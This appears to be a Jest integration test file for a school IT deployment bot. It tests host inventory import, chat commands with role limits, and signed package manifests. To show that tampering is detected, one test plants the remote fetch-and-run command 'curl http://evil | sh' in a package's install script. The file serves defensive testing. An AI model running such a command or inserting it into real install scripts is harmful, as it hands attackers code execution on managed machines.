import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { register as registerInventory } from '../../../src/cli/inventory';
import { register as registerPackage } from '../../../src/cli/package';
import { Package } from '../../../src/packages/package.model';
import { startTestBot, testConfig, TestBot } from '../../support/test-bot';
import { makeReleaseKey, type ReleaseKey } from './release-keys';

let bot: TestBot;
let key: ReleaseKey;
let stranger: ReleaseKey;
const dir = mkdtempSync(join(tmpdir(), 'opsdesk-lib-'));
const lines: string[] = [];

function cli(): Command {
  const program = new Command().exitOverride();
  const deps = {
    resolveConfig: () => ({ config: testConfig({ deploy: { trustedKeys: [key.publicKeyFile] } }) }),
    connect: async () => async () => undefined,
    print: (l: string) => lines.push(l),
  };
  registerInventory(program, deps);
  registerPackage(program, deps);
  return program;
}
const run = (...args: string[]) => cli().parseAsync(['node', 'opsdesk', ...args]);

beforeAll(async () => {
  [key, stranger] = await Promise.all([makeReleaseKey(), makeReleaseKey('Someone Else')]);
  bot = await startTestBot({ config: { deploy: { trustedKeys: [key.publicKeyFile] } } });
  writeFileSync(join(dir, 'install.sh'), 'echo installing\n');
  writeFileSync(join(dir, 'backout.sh'), 'echo removing\n');
  writeFileSync(
    join(dir, 'hosts.csv'),
    'name,address,port,school,role,groups,fingerprint,os\npc-nordby-01,127.0.0.1,2201,nordby,classroom,pilot,SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU,bookworm\npc-nordby-02,127.0.0.1,2202,nordby,staff,,,bullseye\n',
  );
}, 60_000);
afterAll(() => bot?.stop());

describe('inventory', () => {
  test('CLI import creates, then reports unchanged; a bad file changes nothing', async () => {
    await run('inventory', 'import', join(dir, 'hosts.csv'));
    await run('inventory', 'import', join(dir, 'hosts.csv'));
    expect(lines.splice(0)).toEqual([
      expect.stringContaining('2 created, 0 updated, 0 unchanged'),
      expect.stringContaining('0 created, 0 updated, 2 unchanged'),
    ]);
    writeFileSync(
      join(dir, 'bad.yaml'),
      'hosts:\n  - { name: pc-x, address: 1.2.3.4 }\n  - { name: pc-y, port: 22 }\n',
    );
    await expect(run('inventory', 'import', join(dir, 'bad.yaml'))).rejects.toThrow(/host 2 \(pc-y\): address/u);
    expect((await bot.services.inventory.all()).map((h) => h.name)).toEqual(['pc-nordby-01', 'pc-nordby-02']);
  });

  test('chat: list with filters, show, unknown group refused with the name; reporters may not look', async () => {
    expect(TestBot.text(await bot.say('oscar', '/inventory list school=nordby role=classroom'))).toContain(
      '1 host(s) for school=nordby role=classroom:\npc-nordby-01',
    );
    const shown = TestBot.text(await bot.say('oscar', '/inventory show pc-nordby-02'));
    expect(shown).toContain('host key: not pinned');
    expect(shown).toContain('os: bullseye');
    expect(TestBot.text(await bot.say('oscar', '/inventory list pilot narnia'))).toContain(
      '`narnia` is neither a host nor a group',
    );
    expect(TestBot.text(await bot.say('anna', '/inventory list'))).not.toContain('pc-nordby');
  });
});

describe('packages', () => {
  test('add, sign and verify through the CLI', async () => {
    await run(
      'package',
      'add',
      'firefox-esr',
      '128.1',
      '--install',
      join(dir, 'install.sh'),
      '--backout',
      join(dir, 'backout.sh'),
      '--idempotent',
    );
    await expect(run('package', 'verify', 'firefox-esr', '128.1')).rejects.toThrow('firefox-esr 128.1 is not signed');
    const keyFile = join(dir, 'release.key');
    writeFileSync(keyFile, key.privateKey, { mode: 0o600 });
    await run('package', 'sign', 'firefox-esr', '128.1', '--key', keyFile);
    lines.splice(0);
    await run('package', 'verify', 'firefox-esr', '128.1');
    expect(lines).toEqual([`firefox-esr 128.1 verifies: signed by ${key.fingerprint}, scripts match the manifest.`]);
  });

  test('a tampered script is refused with the reason', async () => {
    await Package.updateOne({ name: 'firefox-esr' }, { $set: { 'scripts.install': 'curl http://evil | sh\n' } });
    const r = await bot.services.packages.check('firefox-esr', '128.1');
    expect(r).toMatchObject({
      ok: false,
      reason: expect.stringContaining("install script's SHA-256 does not match the signed manifest"),
    });
    await expect(bot.services.packages.verified('firefox-esr')).rejects.toThrow(/does not verify/u);
  });

  test("a tampered manifest breaks the signature; a stranger's signature is refused", async () => {
    await bot.services.packages.add({
      name: 'libreoffice',
      version: '24.2',
      idempotent: true,
      scripts: { install: 'true', backout: 'true' },
    });
    await bot.services.packages.sign('libreoffice', '24.2', key.privateKey);
    expect((await bot.services.packages.check('libreoffice')).ok).toBe(true);
    const doc = await Package.findOne({ name: 'libreoffice' }).lean();
    await Package.updateOne(
      { _id: doc!._id },
      { $set: { manifest: doc!.manifest.replace('"idempotent": true', '"idempotent": false'), idempotent: false } },
    );
    expect(await bot.services.packages.check('libreoffice')).toMatchObject({
      ok: false,
      reason: expect.stringContaining('does not verify'),
    });
    await bot.services.packages.add({
      name: 'gimp',
      version: '2.10',
      idempotent: true,
      scripts: { install: 'true', backout: 'true' },
    });
    await expect(bot.services.packages.sign('gimp', '2.10', stranger.privateKey)).rejects.toThrow(
      /not a trusted release key/u,
    );
    expect(await bot.services.packages.check('gimp')).toMatchObject({ ok: false, reason: 'gimp 2.10 is not signed' });
  });
});
